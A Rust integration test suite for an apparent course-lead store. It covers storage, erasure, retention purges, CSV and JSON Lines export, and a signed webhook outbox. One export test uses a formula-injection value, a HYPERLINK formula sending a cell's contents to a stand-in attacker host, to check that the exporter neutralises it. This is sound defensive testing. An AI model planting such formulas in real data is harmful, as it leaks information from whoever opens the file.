//! Leads for the operator: stored durably, read back by day, exported through the command
//! line (CSV with formula cells neutralised, JSON Lines), erased on request, purged after
//! retention, and announced to a webhook through an outbox that survives a failing
//! receiver and a restart. The store's tests here are part of its conformance suite: they
//! run on `SQLite` and `PostgreSQL` (`common::conformance!`).

mod common;

use std::path::Path;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use certwise::app::{DEFAULT_LEAD_RETENTION_DAYS, LeadConfig};
use certwise::domain::Slug;
use certwise::domain::lead::{Lead, LeadSession};
use certwise::export::{ExportFormat, LEAD_COLUMNS, export_consent};
use certwise::outbox::{self, Backoff, Settings, Webhook, Worker};
use certwise::store::{self, LeadNotification, NotificationStatus, Store, Unavailable};
use chrono::{DateTime, NaiveDate, Utc};
use common::Kind;

const SECRET: &str = "a test secret of enough bytes";

fn at(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

/// Now, to the microsecond: what the store keeps.
fn now() -> DateTime<Utc> {
    use chrono::SubsecRound as _;
    Utc::now().trunc_subsecs(6)
}

fn day(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn lead(id: &str, received_at: &str, email: &str) -> Lead {
    Lead {
        id: id.to_owned(),
        received_at: at(received_at),
        locale: "en".to_owned(),
        course: Slug::parse("md-102-endpoint-administrator").unwrap(),
        course_title: "Microsoft 365 Endpoint Administrator".to_owned(),
        session: None,
        name: "Ada Lovelace".to_owned(),
        email: email.to_owned(),
        company: None,
        message: None,
        consent_text: "You may contact me about this inquiry.".to_owned(),
    }
}

fn with_session(mut l: Lead) -> Lead {
    l.session = Some(LeadSession {
        id: "2027-01-zurich".to_owned(),
        starts_on: day("2027-01-18"),
        location: "Zürich".to_owned(),
    });
    l.company = Some("Example AG".to_owned());
    l.message = Some("Is lunch included?\nAnd parking?".to_owned());
    l
}

struct Db {
    _dir: tempfile::TempDir,
    file: std::path::PathBuf,
    url: String,
}

fn db() -> Db {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("certwise.db");
    let url = format!("sqlite://{}", file.display());
    Db { _dir: dir, file, url }
}

fn certwise(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_certwise")).args(args).env("NO_COLOR", "1").output().expect("runs")
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

// ---------------------------------------------------------------- the store

conformance! {
    async fn a_lead_round_trips_and_is_read_by_day_oldest_first(db: TestDb) {
        let store = store::open(&db.url).await.unwrap();
        let first = with_session(lead("l1", "2026-11-25T00:00:00Z", "ada@example.ch"));
        let second = lead("l2", "2026-11-26T23:59:59.999999Z", "grace@example.ch");
        let before = lead("l0", "2026-11-24T23:59:59.999999Z", "early@example.ch");
        let after = lead("l3", "2026-11-27T00:00:00Z", "late@example.ch");
        // Stored out of order: read back by time.
        for l in [&second, &after, &first, &before] {
            store.insert_lead(l, LeadNotification::None).await.unwrap();
        }
        let read = store.leads_between(day("2026-11-25"), day("2026-11-26")).await.unwrap();
        assert_eq!(read, [first.clone(), second.clone()], "both ends of the range are included, nothing else");
        assert_eq!(store.leads_between(day("2026-11-26"), day("2026-11-25")).await.unwrap(), []);
        assert_eq!(store.notification_state("l1").await.unwrap(), None, "no webhook, no notification");
        // Durable in the file: another open of it reads the same.
        drop(store);
        let again = store::open(&db.url).await.unwrap();
        let all = again.leads_between(day("2026-01-01"), day("2026-12-31")).await.unwrap();
        assert_eq!(all, [before, first, second, after]);
    }
}

conformance! {
    async fn a_lead_with_the_webhook_on_queues_its_notification_in_the_same_write(db: TestDb) {
        let store = store::open(&db.url).await.unwrap();
        let l = lead("l1", "2026-11-26T10:00:00Z", "ada@example.ch");
        store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
        let state = store.notification_state("l1").await.unwrap().expect("queued");
        assert_eq!(state.status, NotificationStatus::Pending);
        assert_eq!((state.attempts, state.next_attempt_at), (0, l.received_at), "due at once");
        // A lead that cannot be stored (the same id again) queues nothing either.
        assert!(
            store
                .insert_lead(&lead("l1", "2026-11-26T11:00:00Z", "x@example.ch"), LeadNotification::Webhook)
                .await
                .is_err()
        );
        let claimed =
            store.due_notifications(at("2026-11-26T12:00:00Z"), 10, at("2026-11-26T12:01:00Z")).await.unwrap();
        assert_eq!(claimed.len(), 1);
        assert_eq!((claimed[0].attempts, &claimed[0].lead), (1, &l));
        // Claimed: not due again before its lease ends, then due again.
        assert!(
            store
                .due_notifications(at("2026-11-26T12:00:30Z"), 10, at("2026-11-26T12:02:00Z"))
                .await
                .unwrap()
                .is_empty()
        );
        let again =
            store.due_notifications(at("2026-11-26T12:01:00Z"), 10, at("2026-11-26T12:02:00Z")).await.unwrap();
        assert_eq!(again[0].attempts, 2);
        store.mark_retry(again[0].id, at("2026-11-26T12:05:00Z"), "HTTP 500").await.unwrap();
        let state = store.notification_state("l1").await.unwrap().unwrap();
        assert_eq!(
            (state.next_attempt_at, state.last_error.as_deref()),
            (at("2026-11-26T12:05:00Z"), Some("HTTP 500"))
        );
        store.mark_failed(again[0].id, "HTTP 502").await.unwrap();
        let state = store.notification_state("l1").await.unwrap().unwrap();
        assert_eq!((state.status, state.last_error.as_deref()), (NotificationStatus::Failed, Some("HTTP 502")));
        assert!(state.finished_at.is_some());
        assert!(
            store
                .due_notifications(at("2026-11-30T00:00:00Z"), 10, at("2026-11-30T00:01:00Z"))
                .await
                .unwrap()
                .is_empty(),
            "a failed notification is not due again"
        );
    }
}

conformance! {
    async fn erase_removes_every_lead_of_an_email_in_any_case_with_its_notification_and_its_bytes(db: TestDb) {
        let store = store::open(&db.url).await.unwrap();
        let email = "Zoë.Erase-Me@Example.CH";
        store.insert_lead(&lead("a", "2026-11-20T10:00:00Z", email), LeadNotification::Webhook).await.unwrap();
        store
            .insert_lead(&lead("b", "2026-11-21T10:00:00Z", "zoë.erase-me@example.ch"), LeadNotification::Webhook)
            .await
            .unwrap();
        store
            .insert_lead(&lead("c", "2026-11-22T10:00:00Z", "someone.else@example.ch"), LeadNotification::Webhook)
            .await
            .unwrap();
        let out = certwise(&["leads", "erase", "ZOË.ERASE-ME@example.ch", "--database", &db.url]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        assert_eq!(text(&out.stdout), "erased 2 lead(s)\n");
        let left = store.leads_between(day("2026-11-01"), day("2026-11-30")).await.unwrap();
        assert_eq!(left.iter().map(|l| l.id.as_str()).collect::<Vec<_>>(), ["c"]);
        assert_eq!(store.notification_state("a").await.unwrap(), None, "its notification went with it");
        assert_eq!(store.notification_state("b").await.unwrap(), None);
        assert!(store.notification_state("c").await.unwrap().is_some());
        // Not left behind in free pages or the write-ahead log either (SQLite's file; PostgreSQL
        // vacuums the tables).
        drop(store);
        let file = certwise::store::database_file(&db.url);
        for suffix in ["", "-wal"] {
            let Some(file) = file.as_ref().filter(|_| db.kind == Kind::Sqlite) else { break };
            let mut path = file.clone().into_os_string();
            path.push(suffix);
            let bytes = std::fs::read(&path).unwrap_or_default();
            let needle = "rase-me@".as_bytes();
            assert!(!bytes.windows(needle.len()).any(|w| w == needle), "the erased address is still in {path:?}");
        }
        // Again: nothing more to erase, and that is not an error.
        let out = certwise(&["leads", "erase", email, "--database", &db.url]);
        assert!(out.status.success());
        assert_eq!(text(&out.stdout), "erased 0 lead(s)\n");
    }
}

#[tokio::test]
async fn erase_and_export_refuse_a_database_that_does_not_exist() {
    let db = db();
    let out = certwise(&["leads", "erase", "ada@example.ch", "--database", &db.url]);
    assert!(!out.status.success());
    assert!(text(&out.stderr).contains("no database at"), "{}", text(&out.stderr));
    let out =
        certwise(&["leads", "export", "--from", "2026-11-01", "--to", "2026-11-30", "--database", &db.url]);
    assert!(!out.status.success());
    assert!(!db.file.exists(), "no empty database was created");
}

conformance! {
    async fn purge_removes_leads_past_retention_and_their_notifications(db: TestDb) {
        let store = store::open(&db.url).await.unwrap();
        store
            .insert_lead(&lead("old", "2025-11-25T23:59:59Z", "a@example.ch"), LeadNotification::Webhook)
            .await
            .unwrap();
        store
            .insert_lead(&lead("edge", "2025-11-26T00:00:00Z", "b@example.ch"), LeadNotification::Webhook)
            .await
            .unwrap();
        store
            .insert_lead(&lead("new", "2026-11-25T10:00:00Z", "c@example.ch"), LeadNotification::None)
            .await
            .unwrap();
        assert_eq!(store.purge_leads(at("2025-11-26T00:00:00Z")).await.unwrap(), 1);
        let left = store.leads_between(day("2025-01-01"), day("2026-12-31")).await.unwrap();
        assert_eq!(left.iter().map(|l| l.id.as_str()).collect::<Vec<_>>(), ["edge", "new"]);
        assert_eq!(store.notification_state("old").await.unwrap(), None);
        assert!(store.notification_state("edge").await.unwrap().is_some());
        assert_eq!(store.purge_leads(at("2025-11-26T00:00:00Z")).await.unwrap(), 0);
        assert_eq!(DEFAULT_LEAD_RETENTION_DAYS, 365);
    }
}

// ---------------------------------------------------------------- export

conformance! {
    async fn the_command_line_exports_csv_with_a_header_and_jsonl_one_lead_per_line(db: TestDb) {
        let store = store::open(&db.url).await.unwrap();
        let mut tricky = with_session(lead("l2", "2026-11-26T09:00:00Z", "+41@example.ch"));
        tricky.name = String::from("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        tricky.company = Some("-2+3".to_owned());
        tricky.message = Some("@SUM(1,2), \"quoted\"\r\nsecond line".to_owned());
        let plain = lead("l1", "2026-11-25T09:00:00Z", "ada@example.ch");
        let outside = lead("l3", "2026-11-27T09:00:00Z", "late@example.ch");
        for l in [&plain, &tricky, &outside] {
            store.insert_lead(l, LeadNotification::None).await.unwrap();
        }

        let out =
            certwise(&["leads", "export", "--from", "2026-11-25", "--to", "2026-11-26", "--database", &db.url]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        assert!(text(&out.stderr).contains("2 lead(s) from 2026-11-25 to 2026-11-26"), "{}", text(&out.stderr));
        let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
        assert_eq!(csv.headers().unwrap().iter().collect::<Vec<_>>(), LEAD_COLUMNS);
        let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        let cell = |row: &csv::StringRecord, column: &str| {
            row[LEAD_COLUMNS.iter().position(|c| *c == column).unwrap()].to_owned()
        };
        assert_eq!(cell(&rows[0], "id"), "l1", "oldest first");
        assert_eq!(cell(&rows[0], "session_id"), "", "no session: empty cells");
        assert_eq!(cell(&rows[0], "received_at"), "2026-11-25T09:00:00.000000Z");
        assert_eq!(cell(&rows[1], "name"), format!("'{}", tricky.name), "a formula is neutralised");
        assert_eq!(cell(&rows[1], "email"), "'+41@example.ch");
        assert_eq!(cell(&rows[1], "company"), "'-2+3");
        assert_eq!(cell(&rows[1], "message"), format!("'{}", tricky.message.as_deref().unwrap()));
        assert_eq!(cell(&rows[1], "session_starts_on"), "2027-01-18");
        assert_eq!(cell(&rows[1], "session_location"), "Zürich");
        assert_eq!(cell(&rows[1], "course_title"), tricky.course_title);

        let out = certwise(&[
            "leads",
            "export",
            "--from",
            "2026-11-25",
            "--to",
            "2026-11-26",
            "--format",
            "jsonl",
            "--database",
            &db.url,
        ]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let leads: Vec<Lead> = text(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(leads, [plain, tricky], "JSON Lines carry the leads exactly, without neutralising");
    }
}

#[test]
fn a_bad_day_or_a_range_ending_before_it_starts_is_a_clear_error() {
    for (args, expected) in [
        (["--from", "2026-13-01", "--to", "2026-11-30"], "YYYY-MM-DD"),
        (["--from", "26.11.2026", "--to", "2026-11-30"], "YYYY-MM-DD"),
        (["--from", "2026-11-30", "--to", "2026-11-01"], "--to (2026-11-01) is before --from (2026-11-30)"),
    ] {
        let out =
            certwise(&[&["leads", "export"][..], &args[..], &["--database", "sqlite::memory:"]].concat());
        assert!(!out.status.success(), "{args:?}");
        assert!(out.stdout.is_empty(), "{args:?}");
        assert!(text(&out.stderr).contains(expected), "{args:?}: {}", text(&out.stderr));
    }
}

conformance! {
    async fn the_consent_export_neutralises_formula_cells_too(db: TestDb) {
        use certwise::domain::consent::{Action, Channel, ConsentRecord};
        let store = store::open(&db.url).await.unwrap();
        let record = ConsentRecord {
            record_id: "r1".to_owned(),
            consent_id: "c1".to_owned(),
            recorded_at: at("2026-11-26T10:00:00Z"),
            policy_version: "=1+1".to_owned(),
            notice_hash: "h".to_owned(),
            locale: "en".to_owned(),
            action: Action::RejectAll,
            choices: certwise::domain::consent::Choices::NONE,
            channel: Channel::Banner,
            javascript: false,
            gpc: false,
        };
        store.append_consent(&record, "notice").await.unwrap();
        let mut out = Vec::new();
        export_consent(store.as_ref(), day("2026-11-26"), day("2026-11-26"), ExportFormat::Csv, &mut out)
            .await
            .unwrap();
        let mut csv = csv::Reader::from_reader(out.as_slice());
        let row = csv.records().next().unwrap().unwrap();
        assert_eq!(&row[3], "'=1+1");
    }
}

// ---------------------------------------------------------------- configuration

fn config(vars: &[(&str, &str)]) -> anyhow::Result<LeadConfig> {
    let vars: Vec<(String, String)> = vars.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect();
    LeadConfig::from_vars(|name| Ok(vars.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone())))
}

#[test]
fn the_lead_settings_come_from_the_environment() {
    let c = config(&[]).unwrap();
    assert_eq!((c.retention_days, c.webhook.is_none()), (365, true));
    assert_eq!(c.notification(), LeadNotification::None);
    let c = config(&[("CERTWISE_LEAD_RETENTION_DAYS", "30"), ("CERTWISE_LEAD_WEBHOOK_URL", "")]).unwrap();
    assert_eq!((c.retention_days, c.webhook.is_none()), (30, true), "an empty URL is no webhook");
    let c = config(&[
        ("CERTWISE_LEAD_WEBHOOK_URL", "https://crm.example.ch/hook"),
        ("CERTWISE_LEAD_WEBHOOK_SECRET", SECRET),
    ])
    .unwrap();
    assert_eq!(c.notification(), LeadNotification::Webhook);
    for (vars, expected) in [
        (vec![("CERTWISE_LEAD_RETENTION_DAYS", "0")], "1 to 36500"),
        (vec![("CERTWISE_LEAD_RETENTION_DAYS", "a year")], "1 to 36500"),
        (
            vec![("CERTWISE_LEAD_WEBHOOK_URL", "https://crm.example.ch/hook")],
            "CERTWISE_LEAD_WEBHOOK_SECRET is not",
        ),
        (
            vec![
                ("CERTWISE_LEAD_WEBHOOK_URL", "https://crm.example.ch/hook"),
                ("CERTWISE_LEAD_WEBHOOK_SECRET", "  "),
            ],
            "CERTWISE_LEAD_WEBHOOK_SECRET is not",
        ),
        (
            vec![
                ("CERTWISE_LEAD_WEBHOOK_URL", "https://crm.example.ch/hook"),
                ("CERTWISE_LEAD_WEBHOOK_SECRET", "short"),
            ],
            "at least 16",
        ),
        (
            vec![("CERTWISE_LEAD_WEBHOOK_URL", "crm.example.ch"), ("CERTWISE_LEAD_WEBHOOK_SECRET", SECRET)],
            "not a URL",
        ),
    ] {
        let err = format!("{:#}", config(&vars).unwrap_err());
        assert!(err.contains(expected), "{vars:?}: {err}");
    }
}

#[test]
fn serve_refuses_to_start_with_a_webhook_but_no_secret() {
    let db = db();
    let out = Command::new(env!("CARGO_BIN_EXE_certwise"))
        .args(["serve", "--addr", "127.0.0.1:0", "--database", &db.url, "--content"])
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/content"))
        .env("CERTWISE_LEAD_WEBHOOK_URL", "https://crm.example.ch/hook")
        .env_remove("CERTWISE_LEAD_WEBHOOK_SECRET")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert!(stderr.contains("CERTWISE_LEAD_WEBHOOK_SECRET is not"), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
    assert!(!db.file.exists(), "refused before anything was opened");
}

// ---------------------------------------------------------------- the outbox

/// What a test receiver saw: each request's signature header, body and the status it gave.
#[derive(Clone, Default)]
struct Seen(Arc<Mutex<Vec<(String, Bytes, u16)>>>);

impl Seen {
    fn requests(&self) -> Vec<(String, Bytes, u16)> {
        self.0.lock().unwrap().clone()
    }
    fn count(&self) -> usize {
        self.0.lock().unwrap().len()
    }
}

/// A webhook receiver on a free loopback port; `answer(n)` is the status of the n-th
/// request (0-based).
async fn receiver(answer: fn(usize) -> u16) -> (String, Seen) {
    let seen = Seen::default();
    let app = axum::Router::new()
        .route(
            "/hook",
            axum::routing::post(
                move |State(seen): State<Seen>, headers: HeaderMap, body: Bytes| async move {
                    let signature = headers
                        .get(outbox::SIGNATURE_HEADER)
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or("")
                        .to_owned();
                    let mut requests = seen.0.lock().unwrap();
                    let status = answer(requests.len());
                    requests.push((signature, body, status));
                    StatusCode::from_u16(status).unwrap()
                },
            ),
        )
        .with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, seen)
}

/// Short times, so a test does not wait ten seconds for a retry.
fn quick() -> Settings {
    Settings {
        poll: Duration::from_millis(20),
        timeout: Duration::from_millis(500),
        lease: Duration::from_secs(1),
        batch: 16,
        backoff: Backoff {
            base: Duration::from_millis(50),
            cap: Duration::from_millis(200),
            give_up_after: Duration::from_secs(3600),
        },
    }
}

async fn until<F: std::future::Future<Output = bool>>(what: &str, mut done: impl FnMut() -> F) {
    let start = Instant::now();
    while !done().await {
        assert!(start.elapsed() < Duration::from_secs(20), "timed out waiting until {what}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn status(store: &dyn Store, id: &str) -> Option<NotificationStatus> {
    store.notification_state(id).await.unwrap().map(|s| s.status)
}

fn verify(seen: &[(String, Bytes, u16)], expected: &Lead) {
    for (signature, body, _) in seen {
        assert_eq!(
            *signature,
            outbox::signature(SECRET.as_bytes(), body),
            "every request is signed over its body"
        );
        assert_eq!(&serde_json::from_slice::<Lead>(body).unwrap(), expected, "the body is the stored lead");
    }
}

conformance! {
    async fn a_receiver_that_fails_twice_gets_the_lead_once_signed_and_nothing_is_lost(db: TestDb) {
        let (url, seen) = receiver(|n| if n < 2 { 500 } else { 204 }).await;
        let store = store::open(&db.url).await.unwrap();
        let l = with_session(lead("l1", "2026-11-26T10:00:00Z", "ada@example.ch"));
        let l = Lead { received_at: now(), ..l };
        store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
        let worker = Worker::spawn(store.clone(), Webhook::new(&url, SECRET).unwrap(), quick());
        until("delivered", || async {
            status(store.as_ref(), "l1").await == Some(NotificationStatus::Delivered)
        })
        .await;
        // A few more polls: nothing is sent again.
        tokio::time::sleep(Duration::from_millis(300)).await;
        drop(worker);
        let requests = seen.requests();
        assert_eq!(requests.iter().map(|r| r.2).collect::<Vec<_>>(), [500, 500, 204], "delivered exactly once");
        verify(&requests, &l);
        let state = store.notification_state("l1").await.unwrap().unwrap();
        assert_eq!((state.attempts, state.last_error), (3, None));
        let today = Utc::now().date_naive();
        assert_eq!(store.leads_between(today, today).await.unwrap(), [l], "the lead itself is untouched");
    }
}

conformance! {
    async fn a_receiver_that_never_answers_times_out_and_is_given_up_after_the_window(db: TestDb) {
        // Accepts connections and never answers.
        let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/hook", silent.local_addr().unwrap());
        tokio::spawn(async move {
            let mut open = Vec::new();
            while let Ok((tcp, _)) = silent.accept().await {
                open.push(tcp);
            }
        });
        let store = store::open(&db.url).await.unwrap();
        let l = Lead { received_at: now(), ..lead("l1", "2026-11-26T10:00:00Z", "ada@example.ch") };
        store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
        let settings = Settings {
            timeout: Duration::from_millis(200),
            backoff: Backoff { give_up_after: Duration::from_secs(1), ..quick().backoff },
            ..quick()
        };
        let _worker = Worker::spawn(store.clone(), Webhook::new(&url, SECRET).unwrap(), settings);
        // Another lead meanwhile is stored at once: the outbox never blocks a lead.
        let started = Instant::now();
        store
            .insert_lead(&lead("l2", "2025-11-26T11:00:00Z", "b@example.ch"), LeadNotification::None)
            .await
            .unwrap();
        assert!(started.elapsed() < Duration::from_secs(1));
        until("given up", || async { status(store.as_ref(), "l1").await == Some(NotificationStatus::Failed) })
            .await;
        let state = store.notification_state("l1").await.unwrap().unwrap();
        assert_eq!(state.last_error.as_deref(), Some("no answer within 200 ms"));
        assert!(state.attempts >= 2, "tried until the window closed: {state:?}");
        assert_eq!(
            store.leads_between(l.received_at.date_naive(), l.received_at.date_naive()).await.unwrap(),
            [l]
        );
    }
}

conformance! {
    async fn a_new_worker_after_a_restart_resumes_a_pending_notification(db: TestDb) {
        let (down_url, down) = receiver(|_| 503).await;
        let (up_url, up) = receiver(|_| 200).await;
        let l = Lead { received_at: now(), ..lead("l1", "2026-11-26T10:00:00Z", "ada@example.ch") };
        {
            let store = store::open(&db.url).await.unwrap();
            store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
            let _worker = Worker::spawn(store.clone(), Webhook::new(&down_url, SECRET).unwrap(), quick());
            until("a failed attempt is recorded", || async {
                let state = store.notification_state("l1").await.unwrap().unwrap();
                state.last_error.as_deref() == Some("HTTP 503 Service Unavailable")
            })
            .await;
            // The worker and the store go, as in a restart.
        }
        let failures = down.count();
        let store = store::open(&db.url).await.unwrap();
        assert_eq!(status(store.as_ref(), "l1").await, Some(NotificationStatus::Pending));
        let _worker = Worker::spawn(store.clone(), Webhook::new(&up_url, SECRET).unwrap(), quick());
        until("delivered after the restart", || async {
            status(store.as_ref(), "l1").await == Some(NotificationStatus::Delivered)
        })
        .await;
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert_eq!(up.count(), 1, "delivered once");
        assert!(down.count() <= failures + 1, "the old worker stopped");
        verify(&up.requests(), &l);
        verify(&down.requests(), &l);
        assert!(
            store.notification_state("l1").await.unwrap().unwrap().attempts > u32::try_from(failures).unwrap()
        );
    }
}

conformance! {
    async fn two_workers_on_one_database_deliver_each_notification_once(db: TestDb) {
        // Two instances' workers on one database race for every notification.
        let (url, seen) = receiver(|_| 204).await;
        let (one, two) = (store::open(&db.url).await.unwrap(), store::open(&db.url).await.unwrap());
        let _first = Worker::spawn(one.clone(), Webhook::new(&url, SECRET).unwrap(), quick());
        let _second = Worker::spawn(two.clone(), Webhook::new(&url, SECRET).unwrap(), quick());
        let ids: Vec<String> = (0..40).map(|i| format!("l{i}")).collect();
        for (i, id) in ids.iter().enumerate() {
            let l = Lead { received_at: now(), ..lead(id, "2026-11-26T10:00:00Z", &format!("p{i}@example.ch")) };
            let store = if i % 2 == 0 { &one } else { &two };
            store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
        }
        until("every notification is delivered", || async {
            for id in &ids {
                if status(one.as_ref(), id).await != Some(NotificationStatus::Delivered) {
                    return false;
                }
            }
            true
        })
        .await;
        // Past a claim's lease (1 s): nothing is sent again.
        tokio::time::sleep(Duration::from_millis(1200)).await;
        let mut sent: Vec<String> = seen
            .requests()
            .iter()
            .map(|(_, body, _)| serde_json::from_slice::<Lead>(body).unwrap().id)
            .collect();
        sent.sort_by_key(|id| id[1..].parse::<u32>().unwrap());
        assert_eq!(sent, ids, "each lead announced exactly once");
    }
}

// ---------------------------------------------------------------- a database that cannot write

#[tokio::test]
async fn a_read_only_database_is_reported_as_such_and_stores_nothing() {
    let db = db();
    let store = store::open(&db.url).await.unwrap();
    store
        .insert_lead(&lead("l1", "2026-11-26T10:00:00Z", "a@example.ch"), LeadNotification::None)
        .await
        .unwrap();
    let read_only = store::open(&format!("{}?mode=ro", db.url)).await.unwrap();
    let err = read_only
        .insert_lead(&lead("l2", "2026-11-26T11:00:00Z", "b@example.ch"), LeadNotification::Webhook)
        .await
        .unwrap_err();
    assert_eq!(err.unavailable(), Some(Unavailable::ReadOnly), "{err:?}");
    assert_eq!(store.leads_between(day("2026-11-26"), day("2026-11-26")).await.unwrap().len(), 1);
}

/// Unmounts the test's tmpfs however the test ends.
struct Unmount<'a>(&'a Path);

impl Drop for Unmount<'_> {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(self.0).status();
    }
}

#[tokio::test]
async fn a_full_disk_is_reported_as_such_and_stores_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=8m", "tmpfs"])
        .arg(dir.path())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        let msg = "a full disk needs a small tmpfs: run the tests as root (mount -t tmpfs)";
        assert!(std::env::var_os("CI").is_none(), "{msg}");
        let _ = std::io::Write::write_all(&mut std::io::stderr(), format!("SKIPPED: {msg}\n").as_bytes());
        return;
    }
    let _unmount = Unmount(dir.path());
    let url = format!("sqlite://{}", dir.path().join("db.sqlite").display());
    let store = store::open(&url).await.unwrap();
    store
        .insert_lead(&lead("l1", "2026-11-26T10:00:00Z", "a@example.ch"), LeadNotification::Webhook)
        .await
        .unwrap();
    let filler = dir.path().join("filler");
    let mut file = std::fs::File::create(&filler).unwrap();
    let chunk = vec![0u8; 64 * 1024];
    while std::io::Write::write_all(&mut file, &chunk).is_ok() {}
    let _ = file.sync_all();
    // A long message, so the lead needs new pages the disk no longer has.
    let mut big = lead("l2", "2026-11-26T11:00:00Z", "b@example.ch");
    big.message = Some("x".repeat(256 * 1024));
    let err = store.insert_lead(&big, LeadNotification::Webhook).await.unwrap_err();
    assert_eq!(err.unavailable(), Some(Unavailable::DiskFull), "{err:?}");
    drop(file);
    std::fs::remove_file(&filler).unwrap();
    let stored = store.leads_between(day("2026-11-26"), day("2026-11-26")).await.unwrap();
    assert_eq!(stored.iter().map(|l| l.id.as_str()).collect::<Vec<_>>(), ["l1"], "nothing half-written");
    assert_eq!(store.notification_state("l2").await.unwrap(), None);
    store.insert_lead(&big, LeadNotification::Webhook).await.expect("space again: it is stored");
}

conformance! {
    async fn an_https_webhook_speaks_tls(db: TestDb) {
        // A plain-HTTP receiver behind an https:// URL: the TLS handshake fails, which shows
        // the notification went out over TLS; it stays pending with the reason.
        let (url, seen) = receiver(|_| 200).await;
        let url = url.replacen("http://", "https://", 1);
        let store = store::open(&db.url).await.unwrap();
        let l = Lead { received_at: now(), ..lead("l1", "2026-11-26T10:00:00Z", "a@example.ch") };
        store.insert_lead(&l, LeadNotification::Webhook).await.unwrap();
        let _worker = Worker::spawn(store.clone(), Webhook::new(&url, SECRET).unwrap(), quick());
        until("a failed attempt is recorded", || async {
            store.notification_state("l1").await.unwrap().unwrap().last_error.is_some()
        })
        .await;
        let state = store.notification_state("l1").await.unwrap().unwrap();
        assert_eq!(state.status, NotificationStatus::Pending);
        let error = state.last_error.unwrap();
        assert!(error.starts_with("client error (Connect)"), "the handshake failed: {error}");
        assert_eq!(seen.count(), 0, "nothing reached the handler in clear text");
    }
}
